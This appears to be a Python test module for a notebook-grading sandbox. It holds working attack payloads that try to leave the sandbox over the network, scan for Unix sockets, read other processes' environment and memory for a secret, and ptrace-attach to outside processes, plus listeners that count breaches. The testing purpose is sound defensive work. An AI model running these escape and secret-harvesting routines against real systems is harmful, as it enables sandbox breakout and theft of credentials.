"""Graded code that tries to leave the sandbox through the network or through ptrace.

:data:`NETWORK` and :data:`PTRACE` are run like ``grade_folder_experiment.ATTACK``: by
a hostile notebook's kernel and, once, inside each of its graded ranks, with ``CFG``
(what the attacker is assumed to know) and ``WHERE`` (``"kernel"`` or ``"rank"``) in
their globals. Each leaves ``REPORT``: one line per attempt, ``"BREACH ..."`` where it
got through, ``"blocked ..."`` where it did not, and plain lines for what it saw.
:class:`Listeners` is the outside end: ports and a socket that count who reached them.
"""

from __future__ import annotations

import contextlib
import os
import socket
import threading

import psutil

NETWORK = r'''
import contextlib, os, socket, stat, urllib.request
log = []
cfg = CFG

def try_(what, fn):
    try:
        fn()
        log.append("BREACH " + what)
    except Exception as exc:
        log.append("blocked %s (%s)" % (what, type(exc).__name__))

def tcp(host, port):
    socket.create_connection((host, port), timeout=5).close()

for host, port in cfg["tcp"]:
    try_("tcp connect to %s:%d outside the sandbox" % (host, port), lambda: tcp(host, port))
for host, port in cfg["udp"]:
    # A datagram may leave without an error and still arrive nowhere (127.0.0.1 here is
    # the sandbox's own loopback): the listener outside counts what arrived.
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.sendto(cfg["marker"].encode(), (host, port))
        log.append("udp datagram to %s:%d left without an error" % (host, port))
    except OSError as exc:
        log.append("blocked udp datagram to %s:%d (%s)" % (host, port, type(exc).__name__))
def abstract():
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
        s.connect("\0" + cfg["abstract"])
try_("connect to the abstract Unix socket @%s" % cfg["abstract"], abstract)

# Unix socket files it can find (daemons, the grader's folders), but its own scratch,
# where its own channel to the grader lives.
own = os.path.realpath(os.getcwd())
places = ["/tmp", "/run", "/var/run", "/dev/shm", os.path.dirname(own)]
found = set()
for place in places:
    for folder, dirs, names in os.walk(place):
        if os.path.realpath(folder).startswith(own):
            dirs[:] = []
            continue
        for name in names:
            path = os.path.join(folder, name)
            with contextlib.suppress(OSError):
                if stat.S_ISSOCK(os.lstat(path).st_mode):
                    found.add(path)
log.append("unix socket files outside its scratch: %d" % len(found))
for path in sorted(found | set(cfg["unix_paths"])):
    def unix(path=path):
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
            s.connect(path)
    try_("connect to the unix socket " + path, unix)

try_("dns lookup of %s" % cfg["index_host"], lambda: socket.getaddrinfo(cfg["index_host"], 443))
if cfg["nameserver"]:
    def dns_udp():
        # A query for the index's name, sent straight to the machine's name server.
        query = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + b"".join(
            bytes([len(p)]) + p.encode() for p in cfg["index_host"].split(".")) + b"\x00\x00\x01\x00\x01"
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.settimeout(3)
            s.sendto(query, (cfg["nameserver"], 53))
            s.recvfrom(512)
    try_("dns query straight to the name server %s" % cfg["nameserver"], dns_udp)
try_("http request to the package index %s" % cfg["index_url"],
     lambda: urllib.request.urlopen(cfg["index_url"], timeout=5).read(16))
for ip in cfg["index_ips"]:
    try_("tcp connect to the package index's address %s:443" % ip, lambda: tcp(ip, 443))
REPORT = log
'''

PTRACE = r'''
import contextlib, ctypes, errno, os, time
log = []
cfg = CFG
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
ATTACH, DETACH, SEIZE, INTERRUPT = 16, 17, 0x4206, 0x4207
WALL = 0x40000000  # __WALL: wait for a tracee that is not our child

def err():
    return errno.errorcode.get(ctypes.get_errno(), "?")

def attach(pid, request):
    """Attach with ``request``; stop the tracee, then detach it. None if it worked."""
    if libc.ptrace(request, pid, None, None) != 0:
        return err()
    if request == SEIZE:
        libc.ptrace(INTERRUPT, pid, None, None)
    deadline = time.time() + 3
    while time.time() < deadline:
        try:
            if os.waitpid(pid, os.WNOHANG | WALL)[0] == pid:
                break
        except ChildProcessError:
            break
        time.sleep(0.02)
    libc.ptrace(DETACH, pid, None, None)
    return None

def fds(pid):
    out = set()
    for fd in os.listdir("/proc/%d/fd" % pid):
        with contextlib.suppress(OSError):
            out.add(os.readlink("/proc/%d/fd/%s" % (pid, fd)))
    return out

def secret_in(path, limit=64 << 20):
    """Whether the grader's secret is in the file, or in the readable memory of /proc/P/mem."""
    key = cfg["secret"].encode()
    if not path.endswith("/mem"):
        with open(path, "rb") as f:
            return key in f.read()
    maps = open(path[:-3] + "maps").read().splitlines()
    with open(path, "rb") as f:
        for line in maps:
            lo, hi = (int(x, 16) for x in line.split()[0].split("-"))
            if "r" not in line.split()[1] or hi - lo > limit:
                continue
            try:
                f.seek(lo)
                if key in f.read(hi - lo):
                    return True
            except (OSError, OverflowError, ValueError):
                pass
    return False

me = os.getpid()
mine = fds(me)
visible = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
chain, pid = [], me
while pid > 1:  # the parent chain, as far as this pid namespace shows it
    with open("/proc/%d/stat" % pid) as f:
        pid = int(f.read().rsplit(")", 1)[1].split()[1])
    chain.append(pid)
log.append("sees pids %s; its own is %d; parent chain %s" % (visible, me, chain))
learned = set(cfg["outside_pids"]) - set(visible)
for pid in visible:
    if pid == me:
        continue
    try:
        cmd = open("/proc/%d/cmdline" % pid, "rb").read().split(b"\0")[0].decode()
        status = dict(l.split(":\t", 1) for l in open("/proc/%d/status" % pid).read().splitlines()
                      if ":\t" in l)
        theirs = fds(pid)
    except OSError as exc:
        log.append("pid %d: unreadable (%s)" % (pid, type(exc).__name__))
        continue
    # What this process holds that the attacker does not hold already.
    log.append("pid %d %s: uid %s, capabilities %s; fds beyond its own: %s" % (
        pid, os.path.basename(cmd), status.get("Uid", "?").split()[0],
        status.get("CapEff", "?"), sorted(theirs - mine)))
    for where in ("environ", "cmdline"):
        try:
            text = open("/proc/%d/%s" % (pid, where), "rb").read().decode(errors="replace")
        except OSError as exc:
            log.append("blocked read /proc/%d/%s (%s)" % (pid, where, type(exc).__name__))
            continue
        if cfg["secret"] in text:
            log.append("BREACH read the grader's environment in /proc/%d/%s" % (pid, where))
        for item in text.split("\0"):
            if item.startswith("JPY_PARENT_PID="):
                log.append("BREACH learned the grader's pid %s from /proc/%d/%s" % (
                    item.split("=", 1)[1], pid, where))
                learned.add(int(item.split("=", 1)[1]))
    for name, request in (("PTRACE_SEIZE", SEIZE), ("PTRACE_ATTACH", ATTACH)):
        why = attach(pid, request)
        # A process of this sandbox, bwrap's pid 1 (and this code's own children): where
        # ptrace rules let it attach, it gains nothing, as pid 1 runs as the same user
        # without capabilities, in the same namespaces, with an empty environment, and
        # holds /dev/null, the output this process holds too and the eventfd through
        # which bwrap reports the exit status (the "fds beyond its own" line above).
        log.append("%s pid %d inside the sandbox: %s" % (name, pid, why or "attached"))
    try:
        if secret_in("/proc/%d/mem" % pid):
            log.append("BREACH found the grader's environment in the memory of pid %d" % pid)
        else:
            log.append("read the memory of pid %d: no trace of the grader's environment" % pid)
    except OSError as exc:
        log.append("blocked read /proc/%d/mem (%s)" % (pid, type(exc).__name__))

for pid in sorted(learned - set(visible)):
    # Processes outside the sandbox: the grader, the test that started it.
    for name, request in (("PTRACE_SEIZE", SEIZE), ("PTRACE_ATTACH", ATTACH)):
        why = attach(pid, request)
        log.append(("BREACH %s the outside pid %d" % (name, pid)) if why is None
                   else "blocked %s the outside pid %d (%s)" % (name, pid, why))
    try:
        os.kill(pid, 0)
        log.append("BREACH signal the outside pid %d" % pid)
    except OSError as exc:
        log.append("blocked signal the outside pid %d (%s)" % (pid, type(exc).__name__))
REPORT = log
'''


def addresses() -> list[str]:
    """This machine's IPv4 addresses: loopback first, then every other interface's."""
    found = [a.address for addrs in psutil.net_if_addrs().values() for a in addrs
             if a.family == socket.AF_INET]
    return ["127.0.0.1"] + sorted(a for a in set(found) if not a.startswith("127."))


class Listeners:
    """TCP and UDP ports on each of :func:`addresses`, an abstract Unix socket ``name`` and a
    Unix socket file in ``folder``, all outside the sandbox, each counting the connections
    and datagrams that reach it (``reached``: one label each)."""

    def __init__(self, name: str, folder: str):
        self.sockets, self.reached, self.threads = [], [], []
        self.closing = False
        self.tcp, self.udp = [], []
        for host in addresses():
            server = socket.create_server((host, 0))
            self.tcp.append((host, server.getsockname()[1]))
            self._serve(server, f"tcp {host}", stream=True)
            dgram = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            dgram.bind((host, 0))
            self.udp.append((host, dgram.getsockname()[1]))
            self._serve(dgram, f"udp {host}", stream=False)
        self.abstract = name
        unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        unix.bind("\0" + name)
        unix.listen()
        self._serve(unix, f"abstract @{name}", stream=True)
        self.unix = os.path.join(folder, "listener.sock")
        named = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        named.bind(self.unix)
        named.listen()
        self._serve(named, f"unix {self.unix}", stream=True)

    def cfg(self) -> dict:
        """What the attack is told: every listener's address."""
        return {"tcp": self.tcp, "udp": self.udp, "abstract": self.abstract,
                "unix_paths": [self.unix]}

    def _serve(self, sock, label: str, stream: bool) -> None:
        def serve():
            while True:
                try:
                    if stream:
                        sock.accept()[0].close()
                    else:
                        sock.recvfrom(512)
                except OSError:  # closed by close()
                    return
                if self.closing:  # shutdown() wakes a datagram socket with an empty read
                    return
                self.reached.append(label)

        self.sockets.append(sock)
        thread = threading.Thread(target=serve, daemon=True)
        thread.start()
        self.threads.append(thread)

    def control(self) -> list[str]:
        """Reach every listener once from outside the sandbox; return the labels counted.

        Proves the listeners answer: the attack's failures are the sandbox's doing.
        """
        before = len(self.reached)
        for host, port in self.tcp:
            socket.create_connection((host, port), timeout=5).close()
        for host, port in self.udp:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
                s.sendto(b"control", (host, port))
        for address in ("\0" + self.abstract, self.unix):
            with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
                s.connect(address)
        expected = len(self.tcp) + len(self.udp) + 2
        for _ in range(100):
            if len(self.reached) - before >= expected:
                break
            threading.Event().wait(0.05)
        got = self.reached[before:]
        del self.reached[before:]
        return got

    def close(self) -> None:
        """Stop listening; ``reached`` keeps what came before."""
        self.closing = True
        for sock in self.sockets:
            with contextlib.suppress(OSError):
                sock.shutdown(socket.SHUT_RDWR)
            sock.close()
        for thread in self.threads:
            thread.join(timeout=5)
        with contextlib.suppress(OSError):
            os.unlink(self.unix)
